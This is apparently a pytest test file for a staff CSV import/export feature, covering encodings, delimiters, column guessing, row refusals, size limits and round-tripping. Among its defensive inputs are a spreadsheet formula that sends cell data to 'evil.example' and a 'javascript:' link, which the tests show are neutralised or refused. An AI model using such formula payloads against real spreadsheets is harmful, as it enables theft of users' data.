"""Staff by CSV: what is found out, what is refused with its line, and that nothing runs."""

from __future__ import annotations

import codecs
import csv
import io
import os
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from motion_desk.models.document import put
from motion_desk.models.sections.directory import AgentEntry, UserEntry
from motion_desk.models.workspace import Workspace
from motion_desk.services.invitations.staff import FIELDS, Person, faults, of_directory
from motion_desk.services.invitations.staff_export import exported
from motion_desk.services.invitations.staff_import import Column, Imported, columns, imported
from motion_desk.services.invitations.staff_table import read_file, read_table
from motion_desk.services.tables import LARGEST, MOST_ROWS, TableError

PLAIN = "Full name,User name,Email,Internal\nZoë Ångström,z.angstrom,zoe@meridia.example,+4101\n"


def read(text: str | bytes, *variables: str) -> Imported:
    """What is imported by the columns that are guessed."""
    table = read_table(text if isinstance(text, bytes) else text.encode())
    return imported(table, columns(table, variables))


@pytest.mark.parametrize(
    "delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"]
)
@pytest.mark.parametrize(
    ("encoding", "mark"),
    [
        ("utf-8", b""),
        ("utf-8", codecs.BOM_UTF8),
        ("utf-16-le", codecs.BOM_UTF16_LE),
        ("utf-16-be", codecs.BOM_UTF16_BE),
        ("utf-16-le", b""),
        ("utf-16-be", b""),
        ("cp1252", b""),
    ],
    ids=["utf8", "utf8-mark", "utf16le-mark", "utf16be-mark", "utf16le", "utf16be", "cp1252"],
)
def test_encoding_and_delimiter_are_found_out(encoding: str, mark: bytes, delimiter: str) -> None:
    text = PLAIN.replace(",", delimiter).replace("\n", "\r\n")
    table = read_table(mark + text.encode(encoding))
    assert table.delimiter == delimiter
    [person] = imported(table, columns(table)).people
    assert person == Person("Zoë Ångström", "z.angstrom", "zoe@meridia.example", "+4101")


def test_a_delimiter_that_the_first_line_announces_counts_and_lines_stay_right() -> None:
    found = read("sep=;\r\nName;Email\r\nAnna, the first;anna@meridia.example\r\nBob;bob@@x\r\n")
    assert found.people == (Person("Anna, the first", address="anna@meridia.example"),)
    assert [each.line for each in found.refused] == [4]


def test_commas_in_quotes_do_not_hide_the_semicolon() -> None:
    found = read('Name;Email\n"Lee, Ann";ann@x.example\n"O, P, Q";o@x.example\n')
    assert [each.name for each in found.people] == ["Lee, Ann", "O, P, Q"]


@pytest.mark.parametrize(
    ("titles", "targets"),
    [
        ("E-Mail,FULL NAME,Login,Extension", ["address", "name", "username", "internal"]),
        ("name,email", ["name", "address"]),
        ("fullname,name,email", ["name", "username", "address"]),
        ("Adress,Ful name", ["address", "name"]),
        ("Email,Mail", ["address", ""]),
        ("Emial,Email", ["", "address"]),
        ("user.site,email,Shoe size", ["user.site", "address", ""]),
        ("User.Site,email", ["", "address"]),
    ],
)
def test_columns_are_known_by_their_names_in_any_order(titles: str, targets: list[str]) -> None:
    table = read_table(f"{titles}\n{',' * (len(targets) - 1)}x\n".encode())
    assert [each.target for each in columns(table, ["user.site"])] == targets


def test_a_near_name_is_a_guess_that_a_person_can_change() -> None:
    table = read_table(b"Adress,Nickname\nanna@x.example,Anna\n")
    near, sure = columns(table)
    assert (near.target, near.certain, sure.target, sure.certain) == (
        "address",
        False,
        "alias",
        True,
    )
    [person] = imported(table, [near, Column("Nickname", "name")]).people
    assert (person.name, person.alias) == ("Anna", "")


def test_a_file_without_a_header_is_known_by_its_addresses() -> None:
    table = read_table(b"Anna,anna@x.example\nBob,bob@x.example\n")
    assert table.header == ()
    first, second = columns(table)
    assert (first.target, second.target) == ("", "address")
    assert [each.address for each in imported(table, [first, second]).people] == [
        "anna@x.example",
        "bob@x.example",
    ]


def test_a_column_named_like_a_variable_fills_it() -> None:
    [person] = read("Email,user.site\nanna@x.example,Lyon\n", "user.site").people
    assert person.values == {"user.site": "Lyon"}


def test_refused_rows_are_told_with_their_line_and_the_others_are_whole() -> None:
    found = read(
        "Name,Email,Link\n"
        "Anna,anna@x.example,https://m.example/i/1\n"
        "Bob,bob at x.example,\n"
        "\n"
        '"Two\nlines",two@x.example,\n'
        "Cy,cy@x.example\n"
        "Dee,dee@x.example,javascript:alert(1)\n"
        ",,https://m.example/i/2\n"
        "Eve,eve@x.example,\n"
    )
    assert [each.name for each in found.people] == ["Anna", "Eve"]
    assert found.lines == (2, 10)
    reasons = {each.line: each.reason for each in found.refused}
    assert set(reasons) == {3, 5, 7, 8, 9}
    assert "“bob at x.example” is not an email address" in reasons[3]
    assert "single line" in reasons[5]
    assert "2 cells, the first one 3" in reasons[7]
    assert reasons[8] == "The link is not a web address. Copy it from Motion again."
    assert "neither a name nor an address" in reasons[9]


def test_an_address_that_comes_again_is_told_with_both_lines() -> None:
    found = read("Email\nanna@x.example\nbob@x.example\nANNA@x.example\n")
    assert [(each.line, each.earlier) for each in found.duplicates] == [(4, 2)]
    assert len(found.people) == 3


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "no rows"),
        (b"\n \n", "no rows"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "no text file"),
        (b"\xff\xfe\x00", "no text file"),
        (b'Name,Email\nAnna,a@x.example\n"open,b@x.example\n', "line 3 cannot be read"),
        (b'Name,Email\n"Anna"x,a@x.example\n', "line 2 cannot be read"),
        (b"Email\n" + b"a@x.example\n" * (MOST_ROWS + 1), "10,000 rows"),
        (b"a," * 300 + b"\n", "200 cells"),
        (b"x" * (LARGEST + 1), "more than 5 MB"),
        (b"Email\n" + b"x" * 200_000 + b"\n", "line 2 cannot be read"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_no_table_gives_a_sentence(data: bytes, said: str) -> None:
    with pytest.raises(TableError) as met:
        read(data)
    assert said in met.value.sentence
    assert met.value.sentence.endswith((".", ").", "”."))


@pytest.mark.parametrize(
    ("chosen", "said"),
    [
        (("name", "name"), "More than one column is to be “Full name”"),
        (("", "alias"), "No column is a name or an address"),
    ],
)
def test_columns_that_make_no_sense_are_refused(chosen: tuple[str, str], said: str) -> None:
    table = read_table(b"x,y\na,b\n")
    with pytest.raises(TableError, match=said):
        imported(table, [Column(title, target) for title, target in zip("xy", chosen, strict=True)])


def test_a_huge_file_is_refused_by_its_size_alone(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as file:
        file.truncate(1_000_000_000)  # sparse: it takes no room
    with pytest.raises(TableError, match=r"“huge\.csv” has 1,000 MB; at most 5 MB are read"):
        read_file(path)


def test_what_is_no_file_or_cannot_be_read_is_told(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    for path in (tmp_path, pipe, tmp_path / "missing.csv", Path("/dev/zero")):
        with pytest.raises(TableError, match="is no file"):
            read_file(path)
    path = tmp_path / "here.csv"
    path.write_text(PLAIN)
    assert read_file(path).header[0] == "Full name"


def test_formulas_come_in_as_text_and_go_out_harmless() -> None:
    cell = '=HYPERLINK("https://evil.example/?"&A1)'
    [person] = read(f'Name,Email\n"{cell.replace(chr(34), chr(34) * 2)}",anna@x.example\n').people
    assert person.name == cell
    text = exported([person]).decode("utf-8-sig")
    [_, row] = csv.reader(io.StringIO(text))
    assert row[0] == f"'{cell}"


_cells = st.text(st.sampled_from("=+-@'\",;ab é\u202e日"), max_size=8).map(str.strip)


@given(
    st.lists(
        st.builds(
            Person,
            name=_cells.map(lambda text: f"x{text}") | _cells.filter(bool),
            username=_cells,
            internal=_cells,
            alias=_cells,
            role=_cells,
            link=st.sampled_from(["", "https://m.example/i/1"]),
            values=st.dictionaries(st.just("user.site"), _cells.filter(bool)),
        ),
        min_size=1,
        max_size=4,
    )
)
def test_what_was_exported_is_imported_again_as_it_was(people: list[Person]) -> None:
    found = read(exported(people), "user.site")
    assert found.refused == ()
    assert found.people == tuple(people)


@given(st.binary(max_size=200) | st.text(max_size=60).map(str.encode))
def test_no_bytes_do_more_than_give_a_sentence(data: bytes) -> None:
    with suppress(TableError):
        assert all(not list(faults(person)) for person in read(data).people)


def test_a_link_is_exported_only_where_there_is_one_and_never_printed() -> None:
    link = "https://m.example/i/canary"
    assert "canary" not in repr(Person("Anna", link=link))
    assert FIELDS["link"] not in exported([Person("Anna")]).decode()
    assert link in exported([Person("Anna", link=link)]).decode()
    [fault] = faults(Person("Anna", link="canary"))
    assert "canary" not in str(fault)


def test_the_directory_gives_its_agents_and_users_but_for_the_retired() -> None:
    workspace = put(
        Workspace(id="w"),
        "agents.entries",
        (
            AgentEntry(id="a", name="Anna", username="anna", address="a@x.example", internal="1"),
            AgentEntry(id="b", name="Bob", retired=True),
        ),
    )
    workspace = put(workspace, "users.entries", (UserEntry(id="c", name="Cy", role="Quality"),))
    assert of_directory(workspace) == (
        Person("Anna", "anna", "a@x.example", "1", "", "Agent"),
        Person("Cy", role="Quality"),
    )
